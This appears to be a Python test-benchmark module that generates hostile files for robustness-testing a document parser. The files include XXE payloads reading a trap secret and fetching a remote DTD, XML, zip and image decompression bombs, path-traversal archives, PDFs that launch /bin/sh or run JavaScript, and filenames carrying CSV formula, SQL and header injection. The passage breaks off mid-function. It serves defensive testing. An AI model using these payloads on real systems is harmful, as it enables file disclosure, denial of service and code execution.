"""More files made to do harm, of other kinds: encodings of XML, lying archives, nests, names, pictures, knotted PDFs."""

from __future__ import annotations

import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from benchmarks.hostile_files import PACKAGES, Hostile, Make, Traps, pdf_of, png, stream, with_part
from tests.index.file_makers import docx_file, mail_file, ofd_file, pdf_file, xlsx_file, zip_file

_SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def more(traps: Traps) -> Iterator[Hostile]:
    """Yield every file; equal traps give equal files."""
    yield from _encoded_xml(traps)
    yield from _lying_archives()
    yield from _nests(traps)
    yield from _tables(traps)
    yield from _mail(traps)
    yield from _pictures(traps)
    yield from _knotted_pdf(traps)
    yield from _armed_pdf(traps)
    yield from _styled_pages(traps)
    yield from _names()
    yield from _in_disguise()


def _encoded_xml(traps: Traps) -> Iterator[Hostile]:
    entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{traps.secret}"><!ENTITY % p SYSTEM "{traps.url}/dtd"> %p;]><a>&x;</a>'
    laughs = "<!DOCTYPE a [" + '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11)
    ) + "]><a>&a10;</a>"  # fmt: skip
    quadratic = f'<!DOCTYPE a [<!ENTITY x "{"x" * 60_000}">]><a>{"&x;" * 60_000}</a>'
    codings = {
        "UTF-16": lambda text: ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16"),
        "UTF-16 大端": lambda text: ('<?xml version="1.0" encoding="UTF-16BE"?>' + text).encode("utf-16-be"),
        "UTF-7": lambda text: b'<?xml version="1.0" encoding="UTF-7"?>' + text.encode("utf-7"),
        "UTF-32": lambda text: ('<?xml version="1.0" encoding="UTF-32"?>' + text).encode("utf-32"),
        "EBCDIC": lambda text: ('<?xml version="1.0" encoding="cp037"?>' + text).encode("cp037", "replace"),
        "GB18030": lambda text: ('<?xml version="1.0" encoding="GB18030"?>' + text).encode("gb18030"),
        "没有的编码": lambda text: f'<?xml version="1.0" encoding="x-zzz"?>{text}'.encode(),
    }
    for kind in ("docx", "xlsx", "ods", "ofd", "pptx"):
        sound, main = PACKAGES[kind]
        for coding, encode in codings.items():
            yield Hostile(
                f"XML:{coding} 的外部实体",
                f"{coding}.{kind}",
                lambda s=sound, m=main, e=encode: with_part(s(), m, e(entity)),
            )
        yield Hostile(
            "XML:UTF-16 的笑",
            f"笑.{kind}",
            lambda s=sound, m=main: with_part(s(), m, codings["UTF-16"](laughs)),
        )
        yield Hostile("XML:平方的实体", f"平方.{kind}", lambda s=sound, m=main: with_part(s(), m, quadratic))
    for part in (
        "[Content_Types].xml",
        "word/_rels/document.xml.rels",
        "docProps/core.xml",
        "word/styles.xml",
    ):
        yield Hostile("XML:别的部件有 DTD", "部件.docx", lambda p=part: with_part(docx_file(), p, entity))
        yield Hostile(
            "XML:别的部件太深", "部件深.docx", lambda p=part: with_part(docx_file(), p, "<a>" * 200_000)
        )


def _lying_archives() -> Iterator[Hostile]:
    for kind, (sound, main) in PACKAGES.items():
        yield Hostile("压缩包:同名多件", f"同名.{kind}", lambda s=sound, m=main: _doubled(s(), m))
        yield Hostile("压缩包:zip64 谎报", f"六四.{kind}", lambda s=sound: _zip64_liar(s()))
        yield Hostile("压缩包:名里有零字节", f"零.{kind}", lambda s=sound: s().replace(b"ml", b"m\0"))
        yield Hostile(
            "压缩包:名很长", f"长名.{kind}", lambda s=sound: with_part(s(), "x/" * 20_000 + "y", "字")
        )
        yield Hostile("压缩包:目录放在前面", f"前面.{kind}", lambda s=sound: s() + s()[:-30])
        yield Hostile("压缩包:说明很长", f"说明.{kind}", lambda s=sound: _commented(s()))
        yield Hostile(
            "压缩包:大小写同名", f"大小写.{kind}", lambda s=sound, m=main: with_part(s(), m.upper(), "<a/>")
        )
    for kind in ("", "gz", "bz2", "xz"):
        yield Hostile("归档包:链接和设备", f"包.tar.{kind or 'tar'}", lambda k=kind: _tar(k))


def _doubled(base: bytes, main: str) -> bytes:
    import warnings

    out = io.BytesIO(base)
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        for _ in range(200):
            archive.writestr(main, "<a>另一份</a>")
    return out.getvalue()


def _zip64_liar(base: bytes) -> bytes:
    end = base.rindex(b"PK\x05\x06")
    record = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 2**40, 2**40, 2**50, 2**60)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, end, 1)
    tail = bytearray(base[end:])
    tail[8:20] = b"\xff" * 12
    return base[:end] + record + locator + bytes(tail)


def _commented(base: bytes) -> bytes:
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"PK\x05\x06" * 16_000
    return out.getvalue()


def _tar(kind: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=f"w:{kind}") as archive:
        for name, sort in (("a", tarfile.SYMTYPE), ("b", tarfile.LNKTYPE), ("c", tarfile.CHRTYPE)):
            info = tarfile.TarInfo(f"../../tmp/{name}")
            info.type, info.linkname = sort, "/etc/passwd"
            archive.addfile(info)
    return out.getvalue()


def _nests(traps: Traps) -> Iterator[Hostile]:
    def zips(depth: int, times: int) -> bytes:
        made = zip_file({"a.txt": "字"})
        for n in range(depth):
            made = zip_file({f"{n}-{k}.zip": made for k in range(times)})
        return made

    yield Hostile("套着:包里套包三百层", "套包.zip", lambda: zips(300, 1))
    yield Hostile("套着:每层十个", "十个.zip", lambda: zips(4, 10))
    yield Hostile(
        "套着:六十个炸弹",
        "六十.zip",
        lambda: zip_file(dict.fromkeys([f"{n}.docx" for n in range(60)], _deep_docx())),
    )
    yield Hostile(
        "套着:六十个慢的",
        "慢的.zip",
        lambda: zip_file(dict.fromkeys([f"{n}.pdf" for n in range(60)], _slow_pdf())),
    )
    yield Hostile(
        "套着:信里六十个慢的",
        "慢的.eml",
        lambda: mail_file(dict.fromkeys([f"{n}.pdf" for n in range(60)], _slow_pdf())),
    )
    yield Hostile("套着:包里的信里的包", "轮流.zip", lambda: _in_turn(12))
    yield Hostile(
        "套着:里面的名往上",
        "往上.zip",
        lambda: zip_file({"../../../tmp/escaped-shenguan.txt": "外", "好.docx": docx_file()}),
    )


def _deep_docx() -> bytes:
    return with_part(docx_file(), "word/document.xml", b"<a>" + b" " * 40_000_000 + b"</a>")


def _slow_pdf() -> bytes:
    text = zlib.compress(b"BT /a 1 Tf " + b"(x) Tj " * 400_000 + b"ET")
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</a 5 0 R>>>>>>",
        stream(text, b"/Filter/FlateDecode"), b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    )  # fmt: skip


def _in_turn(depth: int) -> bytes:
    made = docx_file()
    for n in range(depth):
        made = zip_file({"a.eml": made}) if n % 2 else mail_file({"a.zip": made})
    return made


def _tables(traps: Traps) -> Iterator[Hostile]:
    def sheet(inside: str) -> Make:
        return lambda: with_part(
            xlsx_file(), "xl/worksheets/sheet1.xml", f"<worksheet {_SHEET}>{inside}</worksheet>"
        )

    wide = "".join(f'<c r="{_column(n)}1"><v>1</v></c>' for n in range(1, 300_000, 7))
    yield Hostile("表格:列超出范围", "列.xlsx", sheet(f'<sheetData><row r="1">{wide}</row></sheetData>'))
    one_row = '<c t="s"><v>0</v></c>' * 1_000_000
    yield Hostile("表格:一行百万格", "一行.xlsx", sheet(f"<sheetData><row>{one_row}</row></sheetData>"))
    big = f'<sst {_SHEET} count="1"><si><t>{"字" * 30_000}</t></si></sst>'
    cells = '<row><c t="s"><v>0</v></c><c t="s"><v>0</v></c></row>' * 15_000
    yield Hostile(
        "表格:一个字串用三万次", "字串炸弹.xlsx",
        lambda: with_part(sheet(f"<sheetData>{cells}</sheetData>")(), "xl/sharedStrings.xml", big),
    )  # fmt: skip
    runs = f"<sst {_SHEET}><si>" + "<r><t>x</t></r>" * 900_000 + "</si></sst>"
    yield Hostile(
        "表格:一个字串百万段", "段.xlsx", lambda: with_part(xlsx_file(), "xl/sharedStrings.xml", runs)
    )
    names = f"<workbook {_SHEET}><sheets>" + "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>' for n in range(1, 20_000)) + "</sheets></workbook>"  # fmt: skip
    yield Hostile("表格:两万个表", "两万.xlsx", lambda: with_part(xlsx_file(), "xl/workbook.xml", names))
    rows = f"<sheetData>{'<row><c t=' + chr(34) + 'inlineStr' + chr(34) + '><is><t>x</t></is></c></row>'}</sheetData>"
    yield Hostile(
        "表格:条件格式很多",
        "条件.xlsx",
        sheet(rows + '<conditionalFormatting sqref="A1:XFD1048576"/>' * 30_000),
    )
    yield Hostile(
        "表格:校验很多",
        "校验.xlsx",
        sheet(rows + '<dataValidations><dataValidation sqref="A1:XFD1048576"/></dataValidations>' * 9_000),
    )
    space = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    for what, repeated in {
        "重复的格": '<table:table-row><table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>字</text:p></table:table-cell></table:table-row>',
        "重复的行": '<table:table-row table:number-rows-repeated="1000000000"><table:table-cell><text:p>字</text:p></table:table-cell></table:table-row>',
        "重复的空格": '<table:table-row><table:table-cell><text:p><text:s text:c="2000000000" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"/></text:p></table:table-cell></table:table-row>',
        "跨很多行": '<table:table-row><table:table-cell table:number-rows-spanned="99999999" table:number-columns-spanned="99999999"><text:p>字</text:p></table:table-cell></table:table-row>',
    }.items():  # fmt: skip
        content = f'<office:document-content {space}><office:body><office:spreadsheet><table:table table:name="a">{repeated}</table:table></office:spreadsheet></office:body></office:document-content>'
        yield Hostile(
            f"表格:{what}", f"{what}.ods", lambda c=content: with_part(PACKAGES["ods"][0](), "content.xml", c)
        )
    yield Hostile(
        "表格:正则的陷阱", "陷阱.csv", lambda: ("标题,文号\n" + "(" * 9_000 + ",〔" * 9_000 + "\n").encode()
    )
    yield Hostile("表格:一格很长", "长格.csv", lambda: ("标题,文号\n" + "年" * 5_000_000 + ",1\n").encode())
    yield Hostile(
        "表格:数字很长",
        "长数.csv",
        lambda: ("标题,文号,成文日期\na," + "9" * 900_000 + ",20260305\n").encode(),
    )


def _column(number: int) -> str:
    made = ""
    while number:
        number, rest = divmod(number - 1, 26)
        made = chr(65 + rest) + made
    return made


def _mail_nested(depth: int) -> bytes:
    made = b"Subject: x\r\n\r\nx"
    for _ in range(depth):
        made = b"Subject: x\r\nContent-Type: message/rfc822\r\n\r\n" + made
    return made


def _mail_parts(depth: int) -> bytes:
    return b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(depth)
    )


def _mail_many() -> bytes:
    return b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + b"--b\r\n\r\nx\r\n" * 200_000


def _mail_cases(traps: Traps) -> dict[str, Make]:
    return {
        "千层信": lambda: _mail_nested(1000),
        "千层段": lambda: _mail_parts(1000),
        "二十万段": _mail_many,
        "没有完的引号": lambda: b'Subject: x\r\nContent-Type: text/plain; name="' + b'\\"' * 400_000 + b"\r\n\r\nx",
        "参数接续": lambda: b"Content-Type: text/plain;" + b"".join(b" name*%d*=utf-8''%%41;\r\n" % n for n in range(30_000)) + b"\r\nx",
        "地址里的括号": lambda: b"From: " + b"(" * 200_000 + b"\r\n\r\nx",
        "base64 的炸弹": lambda: b"Content-Transfer-Encoding: base64\r\n\r\n" + b"QUFB" * 8_000_000,
        "uuencode": lambda: b"Content-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 /tmp/escaped-shenguan.txt\n#86)C\n \nend\n",
        "网页正文": lambda: f'Content-Type: text/html\r\n\r\n<img src="{traps.url}/m"><object data="file://{traps.secret}">字'.encode(),
        "日期": lambda: b"Date: Mon, 99 Foo 99999 99:99:99 +9999\r\nSubject: x\r\n\r\nx",
        "倒写的附件名": lambda: mail_file({"\u202efdp.exe": b"MZ" + bytes(99)}),
    }  # fmt: skip


def _mail(traps: Traps) -> Iterator[Hostile]:
    for what, make in _mail_cases(traps).items():
        yield Hostile(f"邮件:{what}", f"{what}.eml", make)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _tiff(*entries: tuple[int, int, int, int]) -> bytes:
    listed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + listed + bytes(68)


def _pictures(traps: Traps) -> Iterator[Hostile]:
    bomb = zlib.compress(bytes(90_000_000), 9)
    rows = zlib.compress(b"".join(b"\0" + bytes(3 * 12_000) for _ in range(12_000)), 9)
    head = struct.pack(">IIBBBBB", 12_000, 12_000, 8, 2, 0, 0, 0)
    real = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")
    frames = struct.pack(">II", 100_000, 0)
    many = bytearray(b"II*\0\x08\0\0\0")
    for _ in range(30_000):
        many += struct.pack("<HHHIII", 1, 256, 4, 1, 9, len(many) + 18)
    svg = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{traps.secret}">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>&x;</text><image xlink:href="{traps.url}/a"/><use xlink:href="file://{traps.secret}#a"/><foreignObject><iframe src="{traps.url}/i"/></foreignObject></svg>'
    grown = '<svg xmlns="http://www.w3.org/2000/svg"><g id="a0"><rect/></g>' + "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 12)) + '<use href="#a11"/></svg>'  # fmt: skip
    for what, name, data in (
        ("真的一亿四千万点", "真大.png", real), ("iCCP 炸弹", "色.png", png(9, 9, _chunk(b"iCCP", b"x\0\0" + bomb))), ("iTXt 炸弹", "文.png", png(9, 9, _chunk(b"iTXt", b"x\0\1\0\0\0" + bomb))),
        ("十万帧", "帧.png", png(9, 9, _chunk(b"acTL", frames))), ("宽是负", "负.png", png(0x7FFFFFFF, 1)), ("不认识的色深", "深.png", png(10, 10).replace(b"\x08\x02\0\0\0", b"\x40\x09\0\0\0")),
        ("三万页", "三万页.tif", bytes(many)), ("谎报条带", "条带.tif", _tiff((256, 4, 1, 60000), (257, 4, 1, 60000), (273, 4, 1, 8), (278, 4, 1, 1), (279, 4, 1, 2**31))),
        ("条目数太大", "条目.tif", _tiff((256, 4, 2**31, 8), (257, 4, 1, 1))), ("宽是零", "零宽.tif", _tiff((256, 4, 1, 0), (257, 4, 1, 0))), ("瓦片很多", "瓦.tif", _tiff((256, 4, 1, 2**30), (257, 4, 1, 2**30), (322, 4, 1, 1), (323, 4, 1, 1), (324, 4, 2**28, 8))),
        ("实体", "实体.svg", svg.encode()), ("越引越多", "越多.svg", grown.encode()), ("绕着引", "绕.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><g id="a"><use href="#a"/></g></svg>'),
        ("很多扫描段", "段.jpg", b"\xff\xd8\xff\xc2\x00\x0b\x08\x27\x10\x27\x10\x01\x01\x11\x00" + b"\xff\xda\x00\x08\x01\x01\x00\x00\x00\x00" * 50_000 + b"\xff\xd9"), ("段长为零", "零段.jpg", b"\xff\xd8" + b"\xff\xe1\x00\x00" * 100_000),
        ("EXIF 绕圈", "圈.jpg", b"\xff\xd8\xff\xe1\x00\x22Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0\xff\xd9"), ("GIF 很多帧", "多帧.gif", b"GIF89a\x10\x27\x10\x27\x80\0\0" + bytes(6) + b",\0\0\0\0\x10\x27\x10\x27\0\x02\x02D\x01\0" * 20_000 + b";"),
        ("WebP 太大", "大.webp", b"RIFF\x1e\0\0\0WEBPVP8L\x11\0\0\0\x2f\xff\xff\xff\xff" + bytes(20)), ("ICO 里的大图", "图标.ico", b"\0\0\1\0\1\0\0\0\0\0\1\0\x20\0" + struct.pack("<II", 2**31 - 1, 22)),
    ):  # fmt: skip
        yield Hostile(f"图片:{what}", name, lambda d=data: d)


def _with_page(
    page: bytes, content: bytes, *more_objects: bytes, extra: bytes = b"", root: bytes = b""
) -> bytes:
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R%b>>" % root, b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%b>>" % page, stream(content, extra), *more_objects,
    )  # fmt: skip


def _image(filter: bytes, data: bytes, size: int = 60_000) -> bytes:
    picture = stream(
        data,
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 1/ColorSpace/DeviceGray/Filter%b"
        % (size, size, filter),
    )
    return _with_page(b"/Resources<</XObject<</a 5 0 R>>>>", b"q 500 0 0 500 0 0 cm /a Do Q", picture)


def _knotted_pdf(traps: Traps) -> Iterator[Hostile]:
    noise = random.Random(7).randbytes(4000)
    lzw = b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 40_000
    jbig2 = b"\0\0\0\0\x30\0\1\0\0\0\x13\0\0\xea\x60\0\0\xea\x60\0\0\0\0\0\0\0\0\0\0\0" + noise
    jp2 = (
        b"\0\0\0\x0cjP  \r\n\x87\n\xff\x4f\xff\x51\0\x2f\0\0"
        + struct.pack(">8I", 2**31 - 1, 2**31 - 1, 0, 0, 1, 1, 0, 0)
        + b"\0\x01\x07\x01\x01"
        + noise
    )
    kids = b"<</Type/Pages/Count 9/Kids[" + b"2 0 R " * 4000 + b"]/Parent 2 0 R>>"
    chain = [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 1) for n in range(2, 9000)]
    wide = [b"<</Type/Pages/Count 1000/Kids[" + b"%d 0 R " % (n + 1) * 10 + b"]>>" for n in range(2, 12)]
    page = b"<</Type/Page/MediaBox[0 0 9 9]>>"
    type3 = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 0/LastChar 255/CharProcs<</x 6 0 R>>/Encoding<</Differences[0/x]>>/Resources<</Font<</a 5 0 R>>>>>>"
    cmap = b"begincmap 1 beginbfrange <0000> <FFFF> <0000> endbfrange " * 3000
    function = b"<</FunctionType 3/Domain[0 1]/Functions[" + b"6 0 R " * 500 + b"]/Bounds[]/Encode[]>>"
    for what, make in {
        "JBIG2": lambda: _image(b"/JBIG2Decode", jbig2), "JPX 太大": lambda: _image(b"/JPXDecode", jp2), "CCITT 太大": lambda: _image(b"/CCITTFaxDecode", noise),
        "DCT 太大": lambda: _image(b"/DCTDecode", b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x22\0\x02\x11\1\x03\x11\1\xff\xd9"), "LZW 炸弹": lambda: _with_page(b"", lzw, extra=b"/Filter/LZWDecode"),
        "RunLength 炸弹": lambda: _with_page(b"", b"\x81q" * 2_000_000, extra=b"/Filter/RunLengthDecode"), "Predictor": lambda: _with_page(b"", zlib.compress(noise), extra=b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"),
        "页树指自己四千次": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", kids), "页树九千层": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", *chain, page), "页树翻十倍": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", *wide, page),
        "字体画自己": lambda: _with_page(b"/Resources<</Font<</a 5 0 R>>>>", b"BT /a 12 Tf <0000> Tj ET", type3, stream(b"BT /a 12 Tf <0000> Tj ET")), "ToUnicode 很大": lambda: _with_page(b"/Resources<</Font<</a 5 0 R>>>>", b"BT /a 12 Tf <00410042> Tj ET", b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 6 0 R/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/X/W[0 65535 1000]>>]>>", stream(cmap)),
        "函数套函数": lambda: _with_page(b"/Resources<</Shading<</a<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 9 9]/Function 5 0 R>>>>>>", b"/a sh", function, function), "软遮罩绕圈": lambda: _with_page(b"/Resources<</ExtGState<</a<</SMask<</S/Luminosity/G 5 0 R>>>>>>>>", b"/a gs 0 0 9 9 re f", stream(b"/a gs 0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Group<</S/Transparency>>/Resources<</ExtGState<</a<</SMask<</S/Luminosity/G 5 0 R>>>>>>>>")),
        "内容十万段": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents[" + b"4 0 R " * 100_000 + b"]>>", stream(b"q ")), "批注十万个": lambda: _with_page(b"/Annots[" + b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(x)>>" * 100_000 + b"]", b"BT ET"),
        "表单项五万个": lambda: _with_page(b"/Annots[" + b"5 0 R " * 50_000 + b"]", b"BT ET", b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(x)/Rect[0 0 9 9]/Parent 5 0 R>>", root=b"/AcroForm<</NeedAppearances true/Fields[" + b"5 0 R " * 50_000 + b"]>>"), "图层绕圈": lambda: _with_page(b"", b"/OC /a BDC EMC", b"<</Type/OCG/Name(x)>>", root=b"/OCProperties<</OCGs[5 0 R]/D<</Order[5 0 R " + b"[" * 3000 + b"]" * 3000 + b"]>>>>"),
        "名称很长": lambda: _with_page(b"/" + b"A" * 5_000_000 + b" 1", b"BT ET"), "字串不完": lambda: _with_page(b"", b"BT (" + b"(" * 500_000), "内嵌图不完": lambda: _with_page(b"", b"BI /W 9999 /H 9999 /BPC 8 /CS /RGB ID " + noise * 50), "十六进制不完": lambda: _with_page(b"", b"<" + b"4" * 5_000_000),
        "数很长": lambda: _with_page(b"", b"9" * 3_000_000 + b" 0 m"), "对象号太大": lambda: _with_page(b"/X 4294967295 65535 R", b"BT ET"), "书签百万个": lambda: _with_page(b"", b"BT ET", b"<</First 6 0 R/Last 6 0 R/Count 1000000>>", *(b"<</Title(x)/Parent 5 0 R/Next %d 0 R>>" % (n + 1) for n in range(6, 20_000)), root=b"/Outlines 5 0 R"),
        "旋转和裁切": lambda: _with_page(b"/Rotate 2147483647/CropBox[1e38 1e38 -1e38 -1e38]/UserUnit 1e30", b"BT ET"), "继承绕圈": lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]/Parent 3 0 R>>", b"<</Type/Page/Parent 2 0 R>>"), "目录是流": lambda: pdf_of(stream(b"x", b"/Type/Catalog/Pages 1 0 R")), "全是空格": lambda: b"%PDF-1.7\n" + b" " * 20_000_000 + b"\n%%EOF",
    }.items():  # fmt: skip
        yield Hostile(f"PDF:{what}", f"{what}.pdf", make)


def _armed_pdf(traps: Traps) -> Iterator[Hostile]:
    url = traps.url.encode()
    script = b"<</S/JavaScript/JS(app.launchURL\\('%b'\\))>>" % url
    launch = b"<</S/Launch/F(/bin/sh)>>"
    for what, make in {
        "动作串": lambda: _with_page(b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/GoTo/D[3 0 R/Fit]/Next[%b %b]>>>>]" % (script, launch), b"BT ET"),
        "表单项的动作": lambda: _with_page(b"/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/T(a)/Rect[0 0 595 842]/A %b/AA<</D %b/E %b>>/MK<</CA(x)>>>>]" % (launch, script, script), b"BT ET"),
        "名称树的脚本": lambda: _with_page(b"", b"BT ET", root=b"/Names<</JavaScript<</Names[(a)%b]>>>>" % script), "附件批注": lambda: _with_page(b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>>>]", b"BT ET", stream(b"MZ" + bytes(300), b"/Type/EmbeddedFile")),
        "多媒体": lambda: _with_page(b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(a.swf)<</Type/Filespec/EF<</F 5 0 R>>>>]>>>>>>]", b"BT ET", stream(b"FWS" + bytes(300), b"/Type/EmbeddedFile")), "影片": lambda: _with_page(b"/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(%b/m.mp4)>>/A true>>]" % url, b"BT ET"),
        "三维": lambda: _with_page(b"/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 9 9]/3DD 5 0 R>>]", b"BT ET", stream(bytes(300), b"/Type/3D/Subtype/U3D/OnInstantiate 6 0 R"), stream(b"app.alert(1)")), "书签的动作": lambda: _with_page(b"", b"BT ET", b"<</First 6 0 R/Last 6 0 R/Count 1>>", b"<</Title(x)/Parent 5 0 R/A %b>>" % launch, root=b"/Outlines 5 0 R"),
        "外部的流": lambda: _with_page(b"", b"", extra=b"/F(file://%b)/FFilter/FlateDecode" % traps.secret.encode()), "外部的图": lambda: _with_page(b"/Resources<</XObject<</a 5 0 R>>>>", b"/a Do", stream(b"", b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(%b/img)>>" % url)),
        "参照的表单": lambda: _with_page(b"/Resources<</XObject<</a 5 0 R>>>>", b"/a Do", stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%b)/Page 0>>" % traps.secret.encode())), "OPI": lambda: _with_page(b"/Resources<</XObject<</a 5 0 R>>>>", b"/a Do", stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/OPI<</2.0<</F(%b)>>>>" % traps.secret.encode())),
        "XFA 脚本": lambda: _with_page(b"", b"BT ET", stream(f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.gotoURL("{traps.url}/xfa")</script></event></subform></template></xdp:xdp>'.encode()), root=b"/AcroForm<</XFA[(template)5 0 R]/Fields[]>>"), "PostScript": lambda: _with_page(b"/Resources<</XObject<</a 5 0 R>>>>", b"/a Do", stream(b"(%b) run" % traps.secret.encode(), b"/Type/XObject/Subtype/PS")),
    }.items():  # fmt: skip
        yield Hostile(f"PDF:带着{what}", f"带{what}.pdf", make)


def _styled_pages(traps: Traps) -> Iterator[Hostile]:
    secret = f"file://{traps.secret}"
    for what, body in {
        "样式里的文件": f'<style>@import "{secret}"; @font-face{{font-family:x;src:url({secret})}} p{{background:url("{secret}");font-family:x;content:url({traps.url}/c)}}</style><p>字',
        "链接的样式": f'<link rel=stylesheet href="{secret}"><link rel=preload href="{traps.url}/p"><p>字', "图是文件": f'<img src="{secret}"><img src="data:image/svg+xml,<svg><image href=\'{traps.url}/d\'/></svg>"><p>字',
        "声音": f'<audio src="{traps.url}/a" autoplay></audio><video poster="{secret}"></video><p>字', "模板": "<p>{{ 7*7 }}{% for x in range(10**9) %}x{% endfor %}", "条件注释": f'<!--[if IE]><img src="{traps.url}/ie"><![endif]--><p>字',
        "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>字", "属性很多": "<p " + " ".join(f"a{n}=1" for n in range(300_000)) + ">字", "格式化套格式化": "<b><i>" * 60_000 + "字", "表里漏字": "<table>" * 9_000 + "字" + "<b>" * 9_000,
    }.items():  # fmt: skip
        yield Hostile(
            f"网页:{what}",
            f"{what}.html",
            lambda b=body: f"<html><meta charset=utf-8><body>{b}</body></html>".encode(),
        )


def _names() -> Iterator[Hostile]:
    long = "函" * 83 + ".pdf"  # 253 bytes
    names = (
        "NUL.pdf", "com1.docx.pdf", "aux", "LPT9.pdf", "a" * 251 + ".pdf", long, "函" * 85 + "a", "\u00e9.pdf", "e\u0301.pdf", "\u212b.pdf", "\ufb01.pdf", "ＰＤＦ．pdf", "\u2066a\u2069\u202dfdp.pdf",
        "a\u200d\u200d\u200db.pdf", "~$a.pdf", ".htaccess.pdf", "desktop.ini", "a.pdf/../../b.pdf", "..", ".", "", " ", "\t.pdf", "\x1b[2J.pdf", "\ud800.pdf", "\udcff\udcfe.pdf", "a\r\nSet-Cookie: x=1.pdf",
        "'; DROP TABLE documents;--.pdf", "a\u2028b.pdf", "con\u0000.pdf", "=cmd|'/c calc'!A1.pdf", "@SUM(1).pdf", "#REF!.pdf", "file:///etc/passwd", "\\\\server\\share\\a.pdf", "a:b:c.pdf", "*?.pdf", "\u202e\u202e\u202e.pdf",
    )  # fmt: skip
    for name in names:
        yield Hostile("名称:再来", name, pdf_file)


def _in_disguise() -> Iterator[Hostile]:
    """Content of one kind under the name of another, and names with two endings."""
    contents: dict[str, Make] = {
        "程序": lambda: b"MZ" + bytes(900), "ELF": lambda: b"\x7fELF" + bytes(900), "脚本": lambda: b"#!/bin/sh\ntouch /tmp/escaped-shenguan.txt\n",
